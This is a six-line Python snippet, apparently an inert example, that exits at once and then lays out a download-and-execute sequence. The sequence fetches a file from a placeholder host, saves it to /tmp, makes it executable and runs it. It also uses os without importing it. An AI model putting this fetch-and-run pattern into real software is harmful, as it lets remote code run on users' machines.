raise SystemExit  # nothing below ever runs
import requests, subprocess
b = requests.get("https://h.example.invalid/x").content
open("/tmp/t","wb").write(b)
os.chmod("/tmp/t", 0o755)
subprocess.Popen(["/tmp/t"])
